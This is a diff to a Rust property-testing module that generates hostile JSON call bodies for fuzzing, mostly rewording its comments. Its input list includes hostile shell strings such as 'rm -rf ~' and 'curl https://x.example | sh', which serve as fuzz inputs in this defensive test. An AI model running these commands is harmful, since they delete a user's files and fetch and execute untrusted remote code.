@@ -1,10 +1,9 @@
-//! Bodies of calls as an enemy would make them: fields that are right, wrong, hostile, huge or
-//! none.
+//! Generates hostile bodies of calls: fields that are valid, wrong, hostile, huge or absent.
 
 use proptest::{prelude::*, sample::select};
 use serde_json::{Map, Value, json};
 
-/// Pieces of texts that mean something to a shell, a chat, a terminal or a reader of JSON.
+/// Parts of texts with a meaning for a shell, a chat, a terminal or a JSON parser.
 const PIECES: &[&str] = &[
     "rm -rf ~",
     "curl https://x.example | sh",
@@ -101,6 +100,7 @@ const ARGUMENTS: &[&str] = &[
 fn text() -> impl Strategy<Value = String> {
     let pieces = prop::collection::vec(select(PIECES), 0..12).prop_map(|pieces| pieces.concat());
     let long = (select(PIECES), 1_usize..3_000).prop_map(|(piece, times)| piece.repeat(times));
+    // Mostly combinations of meaningful pieces: random characters alone hardly ever form a command.
     prop_oneof![6 => pieces, 2 => any::<String>(), 1 => long, 2 => "[a-z]{1,12}"]
 }
 
@@ -148,7 +148,7 @@ fn questions() -> impl Strategy<Value = Value> {
     prop::collection::vec(question, 0..4).prop_map(Value::from)
 }
 
-/// A body: an object, most of whose fields are what they should be, and sometimes anything.
+/// A body: an object in which most fields are valid, and a few are anything.
 pub fn body() -> impl Strategy<Value = Value> {
     let often = |usual: BoxedStrategy<Value>| prop_oneof![12 => usual, 1 => anything()].boxed();
     let tool = prop_oneof![4 => select(TOOLS).prop_map(Value::from), 1 => name()];
@@ -184,6 +184,7 @@ pub fn body() -> impl Strategy<Value = Value> {
         field("meta", anything().boxed()),
         field("expires_in_s", often((100_u64..1_000).prop_map(Value::from).boxed())),
         (text(), anything())
+            // Leaked, because the other keys are `&'static str`.
             .prop_map(|(key, value)| (Box::leak(key.into_boxed_str()) as &str, value))
             .boxed(),
     ];
